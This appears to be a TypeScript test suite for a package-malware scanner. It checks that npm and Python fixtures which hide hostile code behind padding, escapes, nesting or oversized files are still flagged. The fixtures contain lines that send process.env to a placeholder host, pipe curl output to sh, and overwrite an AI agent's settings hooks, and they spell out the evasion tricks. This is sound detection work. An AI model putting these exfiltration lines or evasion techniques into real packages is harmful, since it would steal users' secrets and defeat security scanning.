import type { Sample } from '../rules/sample';
import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
import { hook, many, PY, type SilenceCase as Case } from '../testing/silence-cases';
import { analyzeArtifact } from './analyze-artifact';

/** Sends the environment away. */
const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));\n`;

const gyp = (sources: string, folder = ''): Omit<Sample, 'what'> => ({
  format: 'tarball',
  files: {
    'x.c': '',
    [`${folder}binding.gyp`]: `{"targets":[{"target_name":"x","sources":[${sources}]}]}`,
    [`${folder}x.js`]: JS,
    ...(folder === '' ? {} : { [`${folder}package.json`]: '{}' }),
  },
});

const NPM: readonly Case[] = [
  ['gyp, in escapes', gyp('"<\\x21(node x.js)"'), 'malicious', 'hook-network-acts'],
  ['gyp, in two texts', gyp(`'<' "!(node x.js)"`), 'malicious', 'hook-network-acts'],
  ['gyp, in code', gyp('"<"+"!(node x.js)"'), 'malicious', 'hook-untraceable'],
  [
    'gyp, far to the right',
    gyp(`"<!(echo ${' '.repeat(25_000)} && node x.js)"`),
    'malicious',
    'hook-untraceable',
  ],
  [
    'gyp, after many commands',
    gyp(`${'"<!(echo x)",'.repeat(201)}"<!(node x.js)"`),
    'malicious',
    'hook-untraceable',
  ],
  [
    'an action of gyp with a bracket in it',
    {
      format: 'tarball',
      files: {
        'x.c': '',
        'binding.gyp': `{'targets':[{'actions':[{'action':['node', './x].js']}]}]}`,
        'x].js': JS,
      },
    },
    'malicious',
    'hook-network-acts',
  ],
  [
    'gyp of a package that is brought along',
    gyp('"<!(node x.js)"', 'node_modules/x/'),
    'malicious',
    'hook-network-acts',
  ],
  [
    'the hook of a package that is brought along and does not say who it is',
    {
      format: 'tarball',
      files: {
        'node_modules/x/package.json': '{"name":7,"scripts":{"postinstall":"node x.js"}}',
        'node_modules/x/x.js': JS,
      },
    },
    'malicious',
    'hook-network-acts',
  ],
];

const PLATFORMS = { '@s/linux-x64': '1.0.0', '@s/darwin-x64': '1.0.0', '@s/win32-x64': '1.0.0' };
const ASKS = `let a = process.env.A_TOKEN, b = process.env.B_TOKEN, c = process.env.C_TOKEN;`;

const HOOKS: readonly Case[] = [
  [
    'an address behind hundreds of the package registry',
    {
      ...hook('node x.js', {
        'x.js': `const h = require('https');${many(310, (at) => `h.get('https://REGISTRY/${at}');`)}h.get('https://x.invalid/');`,
      }),
      manifest: { scripts: { postinstall: 'node x.js' }, optionalDependencies: PLATFORMS },
    },
    'suspicious',
    'hook-network',
  ],
  [
    'what a file does behind hundreds of others',
    hook('node x.js', {
      'x.js': `${many(150, (at) => `require('./f${at}.js');`)}require('./y.js');`,
      'y.js': `require('child_process').exec('curl https://x.invalid | sh')`,
      ...Object.fromEntries(Array.from({ length: 150 }, (_, at) => [`f${at}.js`, ASKS])),
    }),
    'malicious',
    'hook-remote-code',
  ],
  [
    'the end of a script of lines of any length',
    hook('sh x.sh', { 'x.sh': `${many(10, () => `true\n${'a'.repeat(65_536)}`)}\n./y\n` }),
    'suspicious',
    'hook-untraceable',
  ],
  [
    'commands within commands, with other brackets between them',
    hook('sh x.sh', { 'x.sh': `${'$(x () '.repeat(25)}./y${')'.repeat(25)}` }),
    'suspicious',
    'hook-untraceable',
  ],
];

const CODE: readonly Case[] = [
  [
    'a script that code starts and that is not read to its end',
    {
      format: 'tarball',
      files: {
        'index.js': `require('child_process').exec('sh ./x.sh')`,
        'x.sh': { repeat: `true ${'a'.repeat(65_530)}`, times: 17, then: '\n./y\n' },
      },
    },
    'warning',
    'code-unread',
  ],
  [
    'settings that are written by a file behind fifty others',
    {
      format: 'tarball',
      manifest: {
        exports: {
          ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`./${at}`, `./${at}.js`])),
          './x': './x.js',
        },
      },
      files: {
        ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`${at}.js`, ''])),
        'x.js': `require('fs').writeFileSync(process.env.HOME + '/.claude/settings.json', '{"hooks":{"SessionStart":[]}}')`,
      },
    },
    'suspicious',
    'code-agent-settings',
  ],
  [
    'settings behind hundreds of their keys',
    {
      format: 'tarball',
      files: {
        'index.js': `require('fs').writeFileSync(process.env.HOME + '/.claude/settings.json', '{${many(600, (at) => `"k${at}":1,`)}"hooks":{}}')`,
      },
    },
    'suspicious',
    'code-agent-settings',
  ],
  [
    'a module beyond what is kept that begins as data',
    {
      format: 'wheel',
      files: { 'x/__init__.py': { repeat: '{"a": 1}\n', times: 1_900_000, then: PY } },
    },
    'suspicious',
    'runs-unread',
  ],
  [
    'text out of settings, out of settings',
    {
      format: 'tarball',
      files: {
        'index.js': `eval(require('./a.json').a)`,
        'a.json': JSON.stringify({ a: `eval(require('./b.json').b)` }),
        'b.json': JSON.stringify({ b: JS }),
      },
    },
    'malicious',
    'code-secret-sent',
  ],
  [
    'text out of settings that are too large',
    {
      format: 'tarball',
      files: {
        'index.js': `eval(require('./a.json').a)`,
        'a.json': JSON.stringify({ b: ' '.repeat(1_100_000), a: JS }),
      },
    },
    'warning',
    'code-unread',
  ],
];

/** Each time through them one name more is known. */
const STEPS = `${many(8, (at) => `v${9 - at}=v${8 - at};`)}v1=JSON.stringify(process.env);${many(20_000, (at) => `x=[0,0,0,0,0,0,0,${at}];`)}`;

const FLOWS: readonly Case[] = [
  [
    'values and names that are too many to be followed',
    {
      format: 'tarball',
      files: { 'index.js': `${STEPS}\n${JS}` },
    },
    'malicious',
    'code-unread',
  ],
  [
    'what is found before them',
    { format: 'tarball', files: { 'index.js': `${JS}${STEPS}` } },
    'malicious',
    'code-secret-sent',
  ],
  [
    'what is sent within many others',
    {
      format: 'tarball',
      files: {
        'index.js': `require('https').request('https://x.invalid').end(JSON.stringify(process.env)${`+''`.repeat(100)})`,
      },
    },
    'malicious',
    'code-secret-sent',
  ],
  [
    'what is sent behind thousands of steps of Python',
    {
      format: 'wheel',
      files: {
        'x.py': `${many(21_000, (at) => `a = ${at}\n`)}import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))\n`,
      },
    },
    'malicious',
    'code-secret-sent',
  ],
];

const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
  ['of npm', NPM],
  ['hooks', HOOKS],
  ['code', CODE],
  ['values', FLOWS],
];

describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
  it.each(cases)('%s', async (what, sample, verdict, rule) => {
    const whole: Sample = { what, ...sample };

    const analysis = await analyzeArtifact(ecosystemOf(whole), await sampleArchive(whole));

    expect([analysis.verdict, analysis.findings.map(({ rule }) => rule)]).toEqual([
      verdict,
      expect.arrayContaining([rule]),
    ]);
  });
});
